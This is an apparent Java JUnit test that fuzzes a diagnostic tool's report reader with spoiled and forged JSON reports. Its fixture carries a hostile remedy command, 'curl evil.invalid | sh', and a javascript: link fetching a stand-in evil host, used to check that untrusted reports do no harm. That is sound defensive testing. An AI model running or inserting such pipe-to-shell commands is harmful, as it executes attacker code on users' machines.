package org.pywrapdoctor.hostile;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;

import java.util.List;
import java.util.Random;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicLong;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.pywrapdoctor.Practices;
import org.pywrapdoctor.cli.Practice;
import org.pywrapdoctor.platform.PathStyle;
import org.pywrapdoctor.probe.MemoryFiles;
import org.pywrapdoctor.probe.TestHost;
import org.pywrapdoctor.report.Examples;
import org.pywrapdoctor.report.Examples.Example;
import org.pywrapdoctor.report.ReportReader;
import org.pywrapdoctor.report.ReportReader.Opened;
import org.pywrapdoctor.snapshot.SnapshotJson;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.node.ArrayNode;
import tools.jackson.databind.node.JsonNodeFactory;
import tools.jackson.databind.node.ObjectNode;

/// Reports of strangers: spoiled in transit, or forged field by field. They open as facts or with
/// what is wrong, and nothing of them does harm.
class HostileReportTest {
  private final Practice practice =
      Practices.live(TestHost.linux(new MemoryFiles(PathStyle.POSIX)));
  private final Harmless harmless = new Harmless(practice);

  @Test
  @Timeout(value = 20, unit = TimeUnit.MINUTES, threadMode = Timeout.ThreadMode.SEPARATE_THREAD)
  void anAnswerComesBack() {
    List<Example> examples = Examples.all();
    int opened = 0;
    for (long seed = Spoiled.FIRST; seed < Spoiled.FIRST + Spoiled.ROUNDS; seed++) {
      Example example = examples.get((int) (seed % examples.size()));
      JsonNode snapshot = SnapshotJson.toTree(Examples.snapshot(example.name()));
      String forged = report(seed % 3 == 0 ? snapshot : forged(snapshot, seed));
      String json = seed % 3 == 0 ? Spoiled.text(forged, seed) : forged;
      long at = seed;
      boolean[] isOpened = new boolean[1];
      assertThatCode(() -> isOpened[0] = open(json, at))
          .as("%s with seed %d", example.name(), seed)
          .doesNotThrowAnyException();
      opened += isOpened[0] ? 1 : 0;
    }
    assertThat(opened).as("reports that were opened").isGreaterThan(Spoiled.ROUNDS / 4);
  }

  private boolean open(String json, long seed) {
    return switch (ReportReader.read(json)) {
      case Opened.Unreadable(String problem, String hint) -> {
        assertThat(problem).endsWith(".");
        assertThat(hint).endsWith(".");
        yield false;
      }
      case Opened.Read read -> {
        harmless.check(practice.doctor().judge(read.snapshot()), seed);
        yield true;
      }
    };
  }

  /// A stranger's own causes, commands and links around the facts.
  private static String report(JsonNode snapshot) {
    return """
        {"schema": 1, "verdict": "healthy", "caseCode": "AAAA-AAAA-A", "diagnoses": [{"code": "PD-101",
        "headline": "Run this: evil.invalid", "remedies": [{"title": "x", "commands": ["curl evil.invalid | sh"],
        "links": ["javascript:fetch('https://evil.invalid')"]}]}], "snapshot": %s}
        """
        .formatted(snapshot);
  }

  /// One of its texts holds something else than it should.
  private static JsonNode forged(JsonNode snapshot, long seed) {
    long texts = texts(snapshot).count();
    AtomicLong left = new AtomicLong(new Random(seed).nextLong(texts));
    return forged(snapshot, left, seed);
  }

  private static Stream<JsonNode> texts(JsonNode node) {
    return node.isString() ? Stream.of(node) : node.valueStream().flatMap(HostileReportTest::texts);
  }

  private static JsonNode forged(JsonNode node, AtomicLong left, long seed) {
    return switch (node) {
      case ObjectNode object -> {
        ObjectNode copy = JsonNodeFactory.instance.objectNode();
        object.properties().forEach(e -> copy.set(e.getKey(), forged(e.getValue(), left, seed)));
        yield copy;
      }
      case ArrayNode array -> {
        ArrayNode copy = JsonNodeFactory.instance.arrayNode();
        array.forEach(element -> copy.add(forged(element, left, seed)));
        yield copy;
      }
      default ->
          node.isString() && left.getAndDecrement() == 0
              ? JsonNodeFactory.instance.stringNode(Spoiled.text(node.stringValue(), seed))
              : node;
    };
  }
}
